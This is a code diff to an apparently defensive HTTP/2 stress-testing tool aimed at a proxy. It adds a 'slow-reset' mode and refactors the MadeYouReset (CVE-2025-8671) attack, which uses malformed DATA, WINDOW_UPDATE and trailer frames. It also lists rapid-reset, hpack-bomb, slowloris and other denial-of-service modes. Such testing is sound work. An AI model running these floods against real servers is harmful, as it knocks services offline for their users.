@@ -17,6 +17,10 @@ client beside it), not the attacker. NAMEs:
                 --streams requests for --path (a large response) per connection
   idle          --conns connections that send the preface (--no-preface:
                 nothing) and then nothing; --tls CERT KEY CA for mTLS
+  slow-reset    batches of requests to --path (a slow one), then, once the
+                proxy has sent them upstream, RST_STREAM(CANCEL) for each:
+                resets that reach the upstream side (a peer sidecar's pooled
+                connection); reconnects after GOAWAY
   made-you-reset
                 never sends RST_STREAM but makes the proxy reset its streams
                 (MadeYouReset, CVE-2025-8671): batches of requests to --path
@@ -140,18 +144,11 @@ def rapid_reset(args):
     reconnecting_flood(args, "rapid-reset", opening(), batch)
 
 
-def made_you_reset(args):
+def two_phase_flood(args, name, kinds):
+    """Batches of requests (--path), then, once the proxy has read them and
+    sent them upstream, a frame for each that ends it; |kinds| are (opening
+    block, end_stream, breaker(sid)), one kind per batch in turn."""
     per = 100  # the proxy's SETTINGS_MAX_CONCURRENT_STREAMS
-    get = wire.request_block(args.path)
-    post = wire.request_block(args.path, method="POST")
-    kinds = [
-        # (opening block, end_stream, the frame that breaks stream sid)
-        (post + wire.literal(28, "1"), False,  # content-length: 1, then 2 bytes
-         lambda sid: wire.frame(wire.DATA, wire.END_STREAM, sid, b"xx")),
-        (get, True, lambda sid: wire.window_update(sid, 0)),
-        (get, True, lambda sid: wire.window_update(sid, 0x7FFFFFFF)),
-        (post, False, lambda sid: wire.headers(sid, wire.literal(4, "/trailer"))),  # :path in trailers
-    ]
 
     def batch(i):
         first = 1 + 2 * per * (i // 2)
@@ -162,7 +159,25 @@ def made_you_reset(args):
         time.sleep(0.05)  # the proxy reads them and sends them upstream meanwhile
         return b"".join(breaker(sid) for sid in sids)
 
-    reconnecting_flood(args, "made-you-reset", opening(), batch)
+    reconnecting_flood(args, name, opening(), batch)
+
+
+def slow_reset(args):
+    two_phase_flood(args, "slow-reset", [(wire.request_block(args.path), True, wire.rst)])
+
+
+def made_you_reset(args):
+    get = wire.request_block(args.path)
+    post = wire.request_block(args.path, method="POST")
+    kinds = [
+        # (opening block, end_stream, the frame that breaks stream sid)
+        (post + wire.literal(28, "1"), False,  # content-length: 1, then 2 bytes
+         lambda sid: wire.frame(wire.DATA, wire.END_STREAM, sid, b"xx")),
+        (get, True, lambda sid: wire.window_update(sid, 0)),
+        (get, True, lambda sid: wire.window_update(sid, 0x7FFFFFFF)),
+        (post, False, lambda sid: wire.headers(sid, wire.literal(4, "/trailer"))),  # :path in trailers
+    ]
+    two_phase_flood(args, "made-you-reset", kinds)
 
 
 def continuation(args):
@@ -440,7 +455,7 @@ def invalid(args):
 
 
 ATTACKS = {
-    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
+    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "slow-reset": slow_reset, "hold": hold, "zero-window": zero_window, "idle": idle,
     "continuation": continuation, "settings-flood": settings_flood, "ping-flood": ping_flood,
     "hpack-bomb": hpack_bomb, "slowloris": slowloris, "invalid": invalid, "header-hold": header_hold,
     "busy": busy,
